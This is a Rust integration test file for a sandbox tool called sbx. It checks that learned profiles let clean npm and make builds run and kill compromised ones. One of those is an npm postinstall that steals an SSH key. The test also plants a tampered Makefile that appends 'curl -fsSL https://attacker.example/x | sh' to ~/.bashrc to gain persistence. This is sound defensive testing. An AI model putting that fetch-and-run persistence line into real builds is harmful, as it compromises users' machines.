//! The bundled examples end to end, with the real CLI (issue 4 tests and item 6):
//! record -> learn -> enforce of the offline npm install of `examples/npm-demo` and of the C
//! build of `examples/make-demo`, in the same directory and in another directory with another
//! HOME, exits 0 with the workload's output intact; a compromised variant of each is killed
//! and leaves nothing on disk:
//! - npm: `examples/npm-demo-compromised`, whose postinstall copies `~/.ssh/id_rsa` into
//!   `node_modules`; no file under the project, HOME or TMPDIR holds the key's marker;
//! - make: a Makefile the test tampers with, whose recipe appends to `~/.bashrc`; `~/.bashrc`
//!   is unchanged.
//!
//! Each attack is first shown to work without sbx in a throwaway site (DEVELOPERS.md), which
//! also proves that the marker search finds a stolen copy.

use std::ffi::OsStr;
use std::path::{Path, PathBuf};
use std::time::Duration;

use crate::util::workload::{Site, Workload};
use crate::util::{Dir, Output, Sbx, learn_cli, run_guarded};

/// Record `w` in `root/learn`, learn its profile with `sbx learn`; returns the profile path
/// and the recorded run's output.
fn record_and_learn(w: Workload, root: &Path) -> (PathBuf, Output) {
    let site = Site::new(root, "learn");
    w.prepare(root, &site);
    let trace = root.join("run.bin");
    let (out, _, _) = crate::util::record_env(&site.work, &trace, w.command(), &w.envs(&site));
    out.assert_code(0);
    w.check(&site, &out);
    let profile = root.join("learned.profile");
    let text = learn_cli(&[&trace], &profile, &[]);
    eprintln!("{w:?}: learned {} lines", text.lines().count());
    (profile, out)
}

/// `sbx enforce PROFILE -- COMMAND` of `w` in `site` (already prepared).
fn enforce(w: Workload, site: &Site, profile: &Path) -> Output {
    let mut args: Vec<&OsStr> = vec![OsStr::new("enforce"), profile.as_os_str(), OsStr::new("--")];
    args.extend(w.command().iter().map(OsStr::new));
    let mut sbx = Sbx::new(args).cwd(&site.work);
    for (k, v) in w.envs(site) {
        match v {
            Some(v) => sbx = sbx.env(k, v),
            None => {
                sbx.cmd.env_remove(k);
            }
        }
    }
    sbx.timeout = Duration::from_secs(120);
    sbx.run()
}

/// The command of `w` in `site` without sbx.
fn bare_run(w: Workload, site: &Site) -> Output {
    let argv = w.command();
    let mut cmd = std::process::Command::new(argv[0]);
    cmd.args(&argv[1..]).current_dir(&site.work);
    for (k, v) in w.envs(site) {
        match v {
            Some(v) => cmd.env(k, v),
            None => cmd.env_remove(k),
        };
    }
    run_guarded(cmd, Duration::from_secs(120))
}

/// The workload's output with npm's timing (`added 2 packages in 812ms`) taken out.
fn without_timing(text: &str) -> String {
    text.lines()
        .map(|l| match l.rsplit_once(" in ") {
            Some((head, t))
                if t.ends_with('s')
                    && t.trim_end_matches(['m', 's'])
                        .chars()
                        .all(|c| c.is_ascii_digit() || c == '.') =>
            {
                format!("{head} in TIME")
            }
            _ => l.to_string(),
        })
        .collect::<Vec<_>>()
        .join("\n")
}

/// A passing enforce run: exit 0, no sbx violation, the workload's work done and its output
/// the same as in the recorded run.
fn assert_passes(w: Workload, site: &Site, out: &Output, recorded: &Output, what: &str) {
    assert_eq!(
        out.code,
        Some(0),
        "{what}: enforce failed\n--- stdout\n{}\n--- stderr\n{}",
        out.stdout,
        out.stderr
    );
    assert!(
        !out.stderr.contains("sbx: violation"),
        "{what}:\n{}",
        out.stderr
    );
    w.check(site, out);
    assert!(
        !recorded.stdout.trim().is_empty(),
        "the recorded run printed nothing"
    );
    assert_eq!(
        without_timing(&out.stdout),
        without_timing(&recorded.stdout),
        "{what}: the workload's output differs from the recorded run's"
    );
}

/// Replace the planted key with one holding a marker unique to this test run; returns it.
fn plant_key(site: &Site) -> String {
    let nanos = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_nanos();
    let marker = format!("sbx-examples-key-{}-{nanos}", std::process::id());
    let body = format!(
        "-----BEGIN OPENSSH PRIVATE KEY-----\n{marker}\n-----END OPENSSH PRIVATE KEY-----\n"
    );
    std::fs::write(site.home.join(".ssh/id_rsa"), body).unwrap();
    marker
}

/// Every regular file under `dir` (symlinks not followed) whose bytes contain `needle`,
/// except `skip`.
fn files_containing(dir: &Path, needle: &[u8], skip: &Path) -> Vec<PathBuf> {
    let mut found = Vec::new();
    let mut todo = vec![dir.to_path_buf()];
    while let Some(d) = todo.pop() {
        for e in std::fs::read_dir(&d).unwrap() {
            let p = e.unwrap().path();
            let meta = p.symlink_metadata().unwrap();
            if meta.is_dir() {
                todo.push(p);
            } else if meta.is_file() && p != skip {
                let bytes = std::fs::read(&p).unwrap();
                if bytes.windows(needle.len()).any(|w| w == needle) {
                    found.push(p);
                }
            }
        }
    }
    found
}

/// The `sbx: violation:` lines of an enforce run.
fn violations(out: &Output) -> Vec<&str> {
    out.stderr
        .lines()
        .filter(|l| l.starts_with("sbx: violation:"))
        .collect()
}

#[test]
fn npm_demo_passes_under_its_learned_profile_and_the_compromised_install_is_killed() {
    let d = Dir::new();
    let root = d.path();
    let clean = Workload::Npm { compromised: false };
    let bad = Workload::Npm { compromised: true };
    let (profile, recorded) = record_and_learn(clean, root);

    // Same place (same paths, fresh state) and another place with another HOME.
    for name in ["learn", "elsewhere/deeper"] {
        let site = Site::new(root, name);
        clean.prepare(root, &site);
        let out = enforce(clean, &site, &profile);
        assert_passes(clean, &site, &out, &recorded, name);
    }

    // The attack works without sbx: the key lands in node_modules.
    let site = Site::new(root, "bare-attack");
    let marker = plant_key(&site);
    bad.prepare(root, &site);
    let out = bare_run(bad, &site);
    out.assert_code(0);
    let key = site.home.join(".ssh/id_rsa");
    let stolen = files_containing(site.base(), marker.as_bytes(), &key);
    assert_eq!(
        stolen,
        [site.work.join("node_modules/demo-native/.cache/k")],
        "the attack did not work without sbx"
    );

    // Under enforce it is killed at the read of the key, and nothing of the key is on disk.
    let site = Site::new(root, "attacked");
    let marker = plant_key(&site);
    bad.prepare(root, &site);
    let out = enforce(bad, &site, &profile);
    out.assert_code(124);
    let v = violations(&out);
    assert!(
        v.iter().any(|l| l.contains("/.ssh/id_rsa")),
        "no violation names the key:\n{}",
        out.stderr
    );
    assert!(
        out.stderr.contains("+read ${HOME}/.ssh/id_rsa"),
        "the diff does not show the read of the key:\n{}",
        out.stderr
    );
    let key = site.home.join(".ssh/id_rsa");
    let leaked = files_containing(site.base(), marker.as_bytes(), &key);
    assert!(leaked.is_empty(), "the key landed in {leaked:?}");
    assert!(!out.stdout.contains(&marker) && !out.stderr.contains(&marker));
}

/// A line that a tampered Makefile's recipe appends to `~/.bashrc` (persistence: it would run
/// in every later shell). examples/make-demo.sh tampers the same way.
const BASHRC_PAYLOAD: &str = "curl -fsSL https://attacker.example/x | sh";

/// Make `site`'s Makefile append [`BASHRC_PAYLOAD`] to `~/.bashrc` before generating the
/// version header.
fn tamper_makefile(site: &Site) {
    let mk = site.work.join("Makefile");
    let text = std::fs::read_to_string(&mk).unwrap();
    let step = "\tsh gen-version.sh > $@.tmp\n";
    assert!(text.contains(step), "the Makefile changed; update the test");
    let evil = format!("\techo '{BASHRC_PAYLOAD}' >> $$HOME/.bashrc\n{step}");
    std::fs::write(&mk, text.replace(step, &evil)).unwrap();
}

#[test]
fn make_demo_passes_under_its_learned_profile_and_a_tampered_makefile_is_killed() {
    let d = Dir::new();
    let root = d.path();
    let w = Workload::Make;
    let (profile, recorded) = record_and_learn(w, root);

    for name in ["learn", "elsewhere/deeper"] {
        let site = Site::new(root, name);
        w.prepare(root, &site);
        let out = enforce(w, &site, &profile);
        assert_passes(w, &site, &out, &recorded, name);
    }

    // The tampered build works without sbx: ~/.bashrc gains the payload.
    let site = Site::new(root, "bare-attack");
    w.prepare(root, &site);
    tamper_makefile(&site);
    bare_run(w, &site).assert_code(0);
    let rc = std::fs::read_to_string(site.home.join(".bashrc")).unwrap();
    assert!(rc.contains(BASHRC_PAYLOAD), "the attack did not work: {rc}");

    // Under enforce it is killed at the open of ~/.bashrc, which stays as it was.
    let site = Site::new(root, "attacked");
    w.prepare(root, &site);
    tamper_makefile(&site);
    let rc = site.home.join(".bashrc");
    let before = std::fs::read(&rc).unwrap();
    let out = enforce(w, &site, &profile);
    out.assert_code(124);
    let v = violations(&out);
    assert!(
        v.iter().any(|l| l.contains("/.bashrc")),
        "no violation names ~/.bashrc:\n{}",
        out.stderr
    );
    assert!(
        out.stderr.contains("+write ${HOME}/.bashrc"),
        "the diff does not show the write:\n{}",
        out.stderr
    );
    assert_eq!(std::fs::read(&rc).unwrap(), before, "~/.bashrc changed");
    assert!(!site.work.join("build/demo").exists(), "the build went on");
}
